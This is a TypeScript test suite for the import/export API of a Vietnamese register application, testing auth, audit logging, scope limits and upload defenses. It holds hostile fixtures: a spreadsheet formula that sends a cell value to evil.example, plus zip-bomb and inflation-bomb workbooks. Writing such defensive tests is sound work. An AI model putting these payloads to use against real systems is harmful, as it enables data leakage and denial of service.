import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testActor } from '../../../test/actor.js';
import { signIn, type Signed } from '../../../test/auth.js';
import { createTestDatabase, engines } from '../../../test/db.js';
import { hostileWorkbook, numberedRows, repeat, worksheet } from '../../../test/hostile.js';
import { multipart, rawZip } from '../../../test/upload.js';
import { buildApp } from '../../app.js';
import { rows, type Database } from '../../platform/db.js';
import { archiveLimits, openArchive } from '../imports/imports.archive.js';
import { sampleRegister } from '../../../test/support/imports/fixture.js';
import { guideSheet, sheetColumns } from '../imports/imports.parse.js';
import { sheetNames, type ImportSummary } from '../register/register.schema.js';
import { importRegister } from '../register/register.service.js';
import { setCell, tableCounts, tablesOf, tempDir, writeXlsxTables } from '../../../test/support/imports/testkit.js';
import { workerLimits } from '../imports/imports.worker-pool.js';
import { exampleRegister } from '../../../test/support/indicators/example.register.js';

/** Names a spreadsheet would take for formulas, on people of village VA (commune X1). */
const oddNames: Record<string, string> = {
  F1: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  F2: '-Nguyễn Văn Âm',
  F3: "'=đã có dấu nháy",
  F4: '@SUM(1+1)',
  F5: '+84 912 345 678',
};

const total = (s: ImportSummary, k: 'inserted' | 'updated' | 'unchanged') =>
  Object.values(s.changes).reduce((a, c) => a + c[k], 0);

describe.each(engines)('import and export over HTTP on %s', (engine) => {
  let database: Database;
  let app: FastifyInstance;
  let admin: Signed;
  let communeX1: Signed;
  let communeX2: Signed;
  const tmp = tempDir();

  beforeAll(async () => {
    database = await createTestDatabase(engine);
    const seed = exampleRegister();
    for (const [code, fullName] of Object.entries(oddNames)) {
      seed.people.push({
        row: seed.people.length + 2,
        personCode: code,
        fullName,
        birthDate: null,
        gender: null,
        ethnicity: null,
        residenceVillageCode: 'VA',
        communeOfficial: false,
      });
    }
    expect((await importRegister(database.db, seed, { actor: testActor })).errors).toEqual([]);
    app = await buildApp({ database });
    admin = await signIn(app, database.db, 'admin');
    communeX1 = await signIn(app, database.db, 'commune', 'X1');
    communeX2 = await signIn(app, database.db, 'commune', 'X2');
  });
  afterAll(async () => {
    await app?.close();
    await database?.close();
    tmp.cleanup();
  });

  const upload = async (
    who: Signed,
    files: { name: string; content: Buffer | string }[],
    dryRun: boolean,
    target = app,
  ) => {
    const body = multipart(files);
    return target.inject({
      method: 'POST',
      url: `/api/imports?dryRun=${dryRun}`,
      payload: body.payload,
      headers: { ...who.headers, ...body.headers },
    });
  };
  const download = (who: Signed | null, url: string) => app.inject({ method: 'GET', url, headers: who?.headers ?? {} });
  /** The files of a zip answer, as text. */
  const zipTexts = async (payload: Buffer): Promise<Record<string, string>> => {
    const path = join(tmp.dir, `z${Math.random().toString(36).slice(2)}.zip`);
    writeFileSync(path, payload);
    const zip = await openArchive(path);
    const out: Record<string, string> = {};
    for (const e of zip.entries) {
      const chunks: Buffer[] = [];
      for await (const c of zip.stream(e)) chunks.push(c as Buffer);
      out[e.path] = Buffer.concat(chunks).toString('utf8');
    }
    return out;
  };
  const csvRecords = (text: string) => parse(text, { bom: true, columns: true }) as Record<string, string>[];

  it('answers 401 without a session, on every route of the module', async () => {
    const body = multipart([{ name: 'a.csv', content: 'x' }]);
    const posted = await app.inject({
      method: 'POST',
      url: '/api/imports?dryRun=true',
      payload: body.payload,
      headers: body.headers,
    });
    expect(posted.statusCode).toBe(401);
    expect(posted.json().error.code).toBe('AUTH_REQUIRED');
    for (const url of ['/api/exports/register?format=zip', '/api/imports/template']) {
      const r = await download(null, url);
      expect(r.statusCode).toBe(401);
      expect(r.json().error.code).toBe('AUTH_REQUIRED');
    }
  });

  it('a dry run shows the error with its sheet, row, column and value, and writes nothing', async () => {
    const tables = tablesOf(sampleRegister());
    setCell(tables, 'placements', 3, 'valid_to', '31/02/2016');
    const file = await writeXlsxTables(tables, join(tmp.dir, 'bad.xlsx'));
    const before = await tableCounts(database.db);
    const auditBefore = await rows(database.db, sql`select id from audit_log`);
    const r = await upload(admin, [{ name: 'so dang ky.xlsx', content: readFileSync(file) }], true);
    expect(r.statusCode).toBe(200);
    const summary = r.json() as ImportSummary;
    expect(summary.dryRun).toBe(true);
    expect(summary.errors).toEqual([
      expect.objectContaining({
        severity: 'error',
        sheet: 'placements',
        row: 3,
        column: 'valid_to',
        value: '31/02/2016',
        code: 'IMPORT_BAD_DATE',
      }),
    ]);
    expect(summary.errors[0].message).toContain('31/02/2016');
    expect(total(summary, 'inserted')).toBe(0);
    expect(await tableCounts(database.db)).toEqual(before);
    expect((await rows(database.db, sql`select id from audit_log`)).length).toBe(auditBefore.length);

    // the same file for real: 422 with the summary and the registry's error, still nothing written
    const real = await upload(admin, [{ name: 'bad.xlsx', content: readFileSync(file) }], false);
    expect(real.statusCode).toBe(422);
    expect(real.json()).toMatchObject({
      dryRun: false,
      error: { code: 'IMPORT_REJECTED' },
      errors: [expect.objectContaining({ row: 3, column: 'valid_to' })],
    });
    expect(await tableCounts(database.db)).toEqual(before);
  });

  it('a real upload writes, and the audit log attributes every written row to the account', async () => {
    const file = join(tmp.dir, 'good.xlsx');
    await writeXlsxTables(tablesOf(sampleRegister()), file);
    const content = readFileSync(file);
    const dry = await upload(admin, [{ name: 'good.xlsx', content }], true);
    expect(dry.statusCode).toBe(200);
    expect(total(dry.json(), 'inserted')).toBe(sheetNames.reduce((n, s) => n + sampleRegister()[s].length, 0));

    const uploader = await signIn(app, database.db, 'admin');
    const r = await upload(uploader, [{ name: 'good.xlsx', content }], false);
    expect(r.statusCode).toBe(200);
    const summary = r.json() as ImportSummary;
    expect(summary.errors).toEqual([]);
    expect(summary.changes.people).toEqual({ inserted: 4, updated: 0, unchanged: 0 });
    const [p3] = await rows<{ full_name: string }>(database.db, sql`select full_name from people where code = 'P3'`);
    expect(p3.full_name).toBe('Lê Văn Cường, "Ba"');
    const audited = await rows<{ entity: string; n: number }>(
      database.db,
      sql`select entity, count(*)::int as n from audit_log where actor = ${`account:${uploader.username}`} and action = 'insert' group by entity order by entity`,
    );
    expect(Object.fromEntries(audited.map((a) => [a.entity, a.n]))).toMatchObject({
      people: 4,
      memberships: 3,
      placements: 6,
      head_terms: 4,
      secretary_terms: 1,
    });
    const [event] = await rows<{ after: { file: string; changes: ImportSummary['changes'] } }>(
      database.db,
      sql`select after from audit_log where actor = ${`account:${uploader.username}`} and action = 'import'`,
    );
    expect(event.after.file).toBe('good.xlsx');
    expect(event.after.changes.people.inserted).toBe(4);
  });

  it('refuses a zip bomb-like archive, by its directory, before inflating anything', async () => {
    const garbage = Buffer.alloc(64, 0xff); // not deflate data: inflating it would fail otherwise
    const before = await tableCounts(database.db);
    const many = rawZip(
      Array.from({ length: archiveLimits.maxEntries + 1 }, (_, i) => ({
        name: `s${i}.csv`,
        data: garbage,
        method: 8 as const,
        declaredSize: 100,
      })),
    );
    const huge = rawZip([
      { name: 'xl/worksheets/sheet1.xml', data: garbage, method: 8 as const, declaredSize: 0xfffffff0 },
    ]);
    for (const [name, content, what] of [
      ['many.zip', many, 'entries'],
      ['huge.xlsx', huge, 'size'],
    ] as const) {
      const r = await upload(admin, [{ name, content }], true);
      expect(r.statusCode).toBe(413);
      const error = r.json().error;
      expect(error.code).toBe('ARCHIVE_TOO_LARGE');
      expect(error.details.limit).toBe(what);
      expect(error.messages.vi).toContain(name);
      expect(r.body).not.toContain('grassroots-upload');
    }
    expect(await tableCounts(database.db)).toEqual(before);
  });

  it('refuses a small workbook whose shared strings inflate far, naming the part and its limit, for a commune account too', async () => {
    const sst = [
      '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">',
      ...repeat('<si><t>Phạm Thị Dung</t></si>', 450 * 1024 * 1024),
      '</sst>',
    ];
    const content = await hostileWorkbook({ 'xl/sharedStrings.xml': { content: sst } });
    expect(content.length).toBeLessThan(2 * 1024 * 1024);
    const before = await tableCounts(database.db);
    const r = await upload(communeX1, [{ name: 'strings.xlsx', content }], false);
    expect(r.statusCode).toBe(413);
    const { error } = r.json();
    expect(error.code).toBe('ARCHIVE_PART_TOO_LARGE');
    expect(error.messages.en).toBe(
      'The part "xl/sharedStrings.xml" (chuỗi dùng chung / shared strings) of the file "strings.xlsx" inflates past its limit of 64 MB; not read further',
    );
    expect(error.messages.vi).toContain('vượt giới hạn 64 MB');
    expect(await tableCounts(database.db)).toEqual(before);
  });

  it('keeps answering /api/health while a hostile upload is read, then refuses it at its time limit, writing nothing', async () => {
    const limited = await buildApp({ database, uploadLimits: { worker: { ...workerLimits, timeoutMs: 4000 } } });
    try {
      const who = await signIn(limited, database.db, 'commune', 'X1');
      // Each row's one cell in Excel's last column: reading it walks 16,384 cells a row.
      const wide = worksheet(
        numberedRows(
          (n) => `<row r="${n}"><c r="XFD${n}" t="inlineStr"><is><t>x</t></is></c></row>`,
          100 * 1024 * 1024,
        ),
      );
      const content = await hostileWorkbook({ 'xl/worksheets/sheet1.xml': { content: wide } });
      const before = await tableCounts(database.db);
      let done = false;
      const pending = upload(who, [{ name: 'wide.xlsx', content }], false, limited).finally(() => (done = true));
      const answered: number[] = [];
      while (!done) {
        const started = Date.now();
        const health = await limited.inject({ method: 'GET', url: '/api/health' });
        expect(health.statusCode).toBe(200);
        answered.push(Date.now() - started);
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      const r = await pending;
      expect(r.statusCode).toBe(413);
      expect(r.json().error).toMatchObject({
        code: 'IMPORT_TIME_LIMIT',
        messages: {
          en: 'Reading the file "wide.xlsx" takes longer than the limit of 4 s; the file is refused, nothing was written',
        },
      });
      expect(answered.length).toBeGreaterThan(10);
      expect(Math.max(...answered)).toBeLessThan(1000);
      expect(await tableCounts(database.db)).toEqual(before);
    } finally {
      await limited.close();
    }
  });

  it.each(['xlsx', 'zip'] as const)('export then import of the exported %s changes nothing', async (format) => {
    const exported = await download(admin, `/api/exports/register?format=${format}`);
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-disposition']).toMatch(
      new RegExp(`^attachment; filename="so-dang-ky_toan-bo_\\d{4}-\\d{2}-\\d{2}\\.${format}"$`),
    );
    const before = await tableCounts(database.db);
    const r = await upload(admin, [{ name: `export.${format}`, content: exported.rawPayload }], false);
    expect(r.statusCode).toBe(200);
    const summary = r.json() as ImportSummary;
    expect(summary.errors).toEqual([]);
    expect(total(summary, 'inserted') + total(summary, 'updated')).toBe(0);
    expect(summary.changes.people.unchanged).toBe(before.people);
    expect(summary.changes.placements.unchanged).toBe(before.placements);
    expect(total(summary, 'unchanged')).toBeGreaterThan(40);
    expect(await tableCounts(database.db)).toEqual(before);
  });

  it('neutralises formula-like names in the CSV export, and they come back identical', async () => {
    const exported = await download(admin, '/api/exports/register?format=zip&scope=X1');
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-type']).toBe('application/zip');
    const files = await zipTexts(exported.rawPayload);
    expect(Object.keys(files).sort()).toEqual(sheetNames.map((s) => `${s}.csv`).sort());
    for (const [name, text] of Object.entries(files)) {
      for (const record of parse(text, { bom: true }) as string[][]) {
        for (const field of record) expect(field, `${name}: ${field}`).not.toMatch(/^[=+\-@\t\r\0]/);
      }
    }
    const people = new Map(csvRecords(files['people.csv']).map((p) => [p.person_code, p.full_name]));
    for (const [code, name] of Object.entries(oddNames)) expect(people.get(code)).toBe(`'${name}`);

    const r = await upload(admin, [{ name: 'x1.zip', content: exported.rawPayload }], false);
    expect(r.statusCode).toBe(200);
    expect(total(r.json(), 'inserted') + total(r.json(), 'updated')).toBe(0);
    const stored = await rows<{ code: string; full_name: string }>(
      database.db,
      sql`select code, full_name from people where code like 'F%' order by code`,
    );
    expect(Object.fromEntries(stored.map((s) => [s.code, s.full_name]))).toEqual(oddNames);
  });

  it('writes formula-like names into the workbook as text cells, never formulas', async () => {
    const exported = await download(admin, '/api/exports/register?format=xlsx&scope=X1');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(exported.rawPayload as unknown as ArrayBuffer);
    const ws = wb.getWorksheet('people')!;
    const cells: { type: number; value: unknown }[] = [];
    ws.eachRow((row) => row.eachCell((c) => cells.push({ type: c.type, value: c.value })));
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
    expect(cells.map((c) => c.value)).toContain(oddNames.F1);
    expect(cells.map((c) => c.value)).toContain(`'${oddNames.F3}`);
  });

  it('records every export in the audit log: who, which scope, which format, how many rows', async () => {
    const r = await download(communeX1, '/api/exports/register?format=zip');
    expect(r.statusCode).toBe(200);
    expect(r.headers['content-disposition']).toMatch(/filename="so-dang-ky_X1_/);
    const [event] = await rows<{
      entity: string;
      entity_id: string;
      after: { scope: string; format: string; rows: Record<string, number> };
    }>(
      database.db,
      sql`select entity, entity_id, after from audit_log where actor = ${`account:${communeX1.username}`} and action = 'export' order by id desc limit 1`,
    );
    expect(event).toMatchObject({ entity: 'register', entity_id: 'X1', after: { scope: 'X1', format: 'zip' } });
    const files = await zipTexts(r.rawPayload);
    expect(event.after.rows.people).toBe(csvRecords(files['people.csv']).length);
    // the commune's subtree with all its history: VD was in X2 until 2016, then in X1
    expect([...new Set(csvRecords(files['units.csv']).map((u) => u.code))].sort()).toEqual([
      'VA',
      'VB',
      'VC',
      'VD',
      'X1',
    ]);
  });

  it('a commune account cannot export another commune, and its own export re-imports unchanged', async () => {
    const refused = await download(communeX1, '/api/exports/register?format=xlsx&scope=X2');
    expect(refused.statusCode).toBe(403);
    expect(refused.json().error.code).toBe('OUT_OF_SCOPE');
    const [n] = await rows<{ n: number }>(
      database.db,
      sql`select count(*)::int as n from audit_log where actor = ${`account:${communeX1.username}`} and action = 'export' and entity_id = 'X2'`,
    );
    expect(n.n).toBe(0);
    const own = await download(communeX1, '/api/exports/register?format=xlsx&scope=X1');
    const r = await upload(communeX1, [{ name: 'x1.xlsx', content: own.rawPayload }], false);
    expect(r.statusCode).toBe(200);
    expect(total(r.json(), 'inserted') + total(r.json(), 'updated')).toBe(0);
  });

  it('refuses with OUT_OF_SCOPE, writing nothing, an import by a scoped account that changes rows outside its scope', async () => {
    const csv = (lines: string[]) => `${lines.join('\n')}\n`;
    const rename = csv([sheetColumns.people.join(','), 'N1,Nguyễn Văn Một Đổi Tên,1970-01-01,nam,Kinh,,không']);
    const before = await tableCounts(database.db);
    for (const dryRun of [true, false]) {
      const r = await upload(communeX2, [{ name: 'people.csv', content: rename }], dryRun);
      expect(r.statusCode).toBe(403);
      expect(r.json().error).toMatchObject({
        code: 'OUT_OF_SCOPE',
        details: { rows: [{ sheet: 'people', row: 2, column: 'person_code', value: 'N1' }] },
      });
    }
    // moving one's own village to another commune is refused too
    const move = csv([sheetColumns.units.join(','), 'VA,Thôn A,village,Thôn,X2,,']);
    const moved = await upload(communeX1, [{ name: 'units.csv', content: move }], false);
    expect(moved.statusCode).toBe(403);
    expect(moved.json().error.details.rows).toEqual([{ sheet: 'units', row: 2, column: 'parent_code', value: 'X2' }]);
    expect(await tableCounts(database.db)).toEqual(before);
    const [n1] = await rows<{ full_name: string }>(database.db, sql`select full_name from people where code = 'N1'`);
    expect(n1.full_name).toBe('Nguyễn Văn Một');

    // the commune of the person may, with a single CSV file
    const ok = await upload(communeX1, [{ name: 'people.csv', content: rename }], false);
    expect(ok.statusCode).toBe(200);
    expect(ok.json().changes.people).toEqual({ inserted: 0, updated: 1, unchanged: 0 });
    const back = csv([sheetColumns.people.join(','), 'N1,Nguyễn Văn Một,1970-01-01,nam,Kinh,,không']);
    expect((await upload(communeX1, [{ name: 'people.csv', content: back }], false)).statusCode).toBe(200);
  });

  it('gives the empty template, every column explained in Vietnamese, which imports as nothing', async () => {
    const r = await download(communeX1, '/api/imports/template');
    expect(r.statusCode).toBe(200);
    expect(r.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(r.headers['content-disposition']).toBe('attachment; filename="mau-nhap-so-dang-ky.xlsx"');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(r.rawPayload as unknown as ArrayBuffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual([guideSheet, ...sheetNames]);
    for (const sheet of sheetNames) {
      const header = wb.getWorksheet(sheet)!.getRow(1);
      const columns = sheetColumns[sheet];
      expect(columns.map((_, i) => header.getCell(i + 1).value)).toEqual([...columns]);
      for (let i = 1; i <= columns.length; i++)
        expect(String(header.getCell(i).note ?? '').length, `${sheet}.${columns[i - 1]}`).toBeGreaterThan(10);
    }
    const guide: string[] = [];
    wb.getWorksheet(guideSheet)!.eachRow((row) => guide.push(String(row.getCell(3).value ?? '')));
    expect(guide.join('\n')).toContain('Ngày kết nạp');
    const dry = await upload(admin, [{ name: 'mau.xlsx', content: r.rawPayload }], true);
    expect(dry.statusCode).toBe(200);
    expect(dry.json()).toMatchObject({ errors: [], warnings: [] });
    expect(total(dry.json(), 'inserted')).toBe(0);
  });

  it('keeps to the upload limits: size, one file, accepted types', async () => {
    const small = await buildApp({ database, uploadLimits: { maxBytes: 2048 } });
    try {
      const who = await signIn(small, database.db, 'admin');
      const big = `${sheetColumns.people.join(',')}\n${'Z1,Tên dài,,,,,không\n'.repeat(200)}`;
      const r = await upload(who, [{ name: 'people.csv', content: big }], true, small);
      expect(r.statusCode).toBe(413);
      expect(r.json().error).toMatchObject({ code: 'PAYLOAD_TOO_LARGE', message: expect.stringContaining('2 KB') });
      const declared = await small.inject({
        method: 'POST',
        url: '/api/imports?dryRun=true',
        payload: multipart([{ name: 'people.csv', content: 'x'.repeat(100_000) }]).payload,
        headers: { ...who.headers, 'content-type': 'multipart/form-data; boundary=x' },
      });
      expect(declared.json().error.code).toBe('PAYLOAD_TOO_LARGE');
    } finally {
      await small.close();
    }
    const exe = await upload(admin, [{ name: 'run.exe', content: 'MZ' }], true);
    expect(exe.statusCode).toBe(415);
    expect(exe.json().error).toMatchObject({
      code: 'UPLOAD_UNSUPPORTED_TYPE',
      message: expect.stringContaining('run.exe'),
    });
    const two = await upload(
      admin,
      [
        { name: 'people.csv', content: 'a' },
        { name: 'units.csv', content: 'b' },
      ],
      true,
    );
    expect(two.statusCode).toBe(400);
    expect(two.json().error).toMatchObject({ code: 'VALIDATION_FAILED', message: expect.stringContaining('một tệp') });
    const none = await app.inject({
      method: 'POST',
      url: '/api/imports?dryRun=true',
      payload: { a: 1 },
      headers: admin.headers,
    });
    expect(none.statusCode).toBe(400);
    expect(none.json().error).toMatchObject({
      code: 'VALIDATION_FAILED',
      message: expect.stringContaining('multipart/form-data'),
    });
    for (const payload of [
      '',
      'garbage',
      '--x\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\nunterminated',
    ]) {
      const bad = await app.inject({
        method: 'POST',
        url: '/api/imports?dryRun=true',
        payload,
        headers: { ...admin.headers, 'content-type': 'multipart/form-data; boundary=x' },
      });
      expect({ payload, status: bad.statusCode, code: bad.json().error.code }).toEqual({
        payload,
        status: 400,
        code: 'VALIDATION_FAILED',
      });
    }
    const viewer = await signIn(app, database.db, 'viewer', 'P');
    expect((await upload(viewer, [{ name: 'people.csv', content: 'a' }], true)).statusCode).toBe(403);
  });

  it('an empty register exports as headers only', async () => {
    const blank = await createTestDatabase(engine);
    const app2 = await buildApp({ database: blank });
    try {
      const who = await signIn(app2, blank.db, 'admin');
      const r = await app2.inject({ method: 'GET', url: '/api/exports/register?format=zip', headers: who.headers });
      const files = await zipTexts(r.rawPayload);
      for (const s of sheetNames) expect(files[`${s}.csv`]).toBe(`\uFEFF${sheetColumns[s].join(',')}\n`);
      const unknown = await app2.inject({
        method: 'GET',
        url: '/api/exports/register?scope=NOPE',
        headers: who.headers,
      });
      expect(unknown.json().error.code).toBe('UNIT_NOT_FOUND');
    } finally {
      await app2.close();
      await blank.close();
    }
  });
});
